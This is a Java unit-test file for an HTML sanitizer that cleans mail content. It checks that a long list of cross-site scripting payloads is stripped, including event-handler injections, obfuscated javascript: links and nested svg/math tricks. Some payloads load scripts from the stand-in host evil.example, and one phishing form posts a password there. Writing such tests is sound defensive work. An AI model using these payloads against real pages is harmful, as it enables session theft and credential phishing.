package io.safepaw.communication;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Optional;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SafeHtmlTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<ScRiPt src=//evil.example/x.js></sCrIpT>",
                "<img src=x onerror=alert(1)>",
                "<img src='https://evil.example/pixel.gif'>",
                "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
                "<img src=cid:unknown onload=alert(1)>",
                "<svg onload=alert(1)><script>alert(1)</script></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
                "<a href='javascript:alert(1)'>x</a>",
                "<a href=' jAvA\nScRiPt:alert(1)'>x</a>",
                "<a href='&#106;avascript:alert(1)'>x</a>",
                "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
                "<a href='vbscript:x'>x</a>",
                "<a href='/logout'>x</a>",
                "<a href='//evil.example'>x</a>",
                "<base href='https://evil.example/'>",
                "<meta http-equiv=refresh content='0;url=https://evil.example'>",
                "<link rel=stylesheet href='https://evil.example/x.css'>",
                "<style>body{display:none}</style>",
                "<div style='position:fixed;inset:0;background:url(https://evil.example)'>x</div>",
                "<div class='queue' id='content' name='token'>x</div>",
                "<form action='https://evil.example'><input name=password><button>Log in</button></form>",
                "<iframe src='https://evil.example' srcdoc='<script>alert(1)</script>'></iframe>",
                "<object data='x'></object><embed src='x'>",
                "<video src='https://evil.example/v.mp4' autoplay></video><audio src=x></audio>",
                "<table background='https://evil.example/x.png'><tr><td background='x'>x</td></tr></table>",
                "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
                "<!--[if IE]><script>alert(1)</script><![endif]-->",
                "<details open ontoggle=alert(1)>x</details>",
                "<button hx-get='/api' hx-trigger='load'>x</button><p data-hx-post='/x' hx-on:click='y'>x</p>",
                "<template><script>alert(1)</script></template>",
                "<p>unclosed <b><i><script>alert(1)"
            })
    void nothingOfItActsOrLoads(String nasty) {
        var page = Jsoup.parseBodyFragment(SafeHtml.of(nasty));

        assertThat(page.body()
                        .select(
                                "script, style, img, svg, math, base, meta, link, form, input, button, iframe, object, embed,"
                                        + " video, audio, noscript, template, details"))
                .isEmpty();
        for (var element : page.body().select("*")) {
            assertThat(element.attributes().asList())
                    .extracting(attribute -> attribute.getKey())
                    .allMatch(name -> name.equals("href") || name.equals("rel") || name.equals("target"));
        }
        assertThat(page.select("a[href]")).isEmpty();
    }

    @Test
    void lettersStayReadable() {
        var html = "<h1>Hello</h1><p>My <b>dog</b><br>was hurt &amp; cries</p><ul><li>one</li></ul>"
                + "<table><tr><td colspan=2>cell</td></tr></table><blockquote>quoted</blockquote>";

        assertThat(SafeHtml.of(html))
                .contains(
                        "<h1>Hello</h1>",
                        "<b>dog</b><br>was hurt &amp; cries",
                        "<li>one</li>",
                        "colspan=\"2\"",
                        "quoted");
    }

    @Test
    void aLinkOpensWithoutTellingWhoWeAre() {
        var link = Jsoup.parseBodyFragment(
                        SafeHtml.of("<a href='https://example.org/a?b=c' rel=opener target=_top>x</a>"))
                .selectFirst("a");

        assertThat(link.attr("href")).isEqualTo("https://example.org/a?b=c");
        assertThat(link.attr("rel")).contains("noopener", "noreferrer");
        assertThat(link.attr("target")).isEqualTo("_blank");
    }

    @Test
    void imagesThatCameInsideTheMailAreShownFromOurOwnAddress() {
        var html =
                "<p><img src='cid:photo@mail' alt='the paw' onerror=x><img src='cid:other'><img src='http://x/y.png'></p>";

        var images = Jsoup.parseBodyFragment(SafeHtml.of(
                        html, id -> id.equals("photo@mail") ? Optional.of("/evidence/1") : Optional.empty()))
                .select("img");

        assertThat(images).singleElement().satisfies(image -> {
            assertThat(image.attr("src")).isEqualTo("/evidence/1");
            assertThat(image.attr("alt")).isEqualTo("the paw");
            assertThat(image.hasAttr("onerror")).isFalse();
        });
    }

    @Test
    void absurdNestingIsSurvived() {
        var html = "<div>".repeat(20_000) + "deep" + "</div>".repeat(20_000);

        assertThat(SafeHtml.of(html)).contains("deep");
    }
}
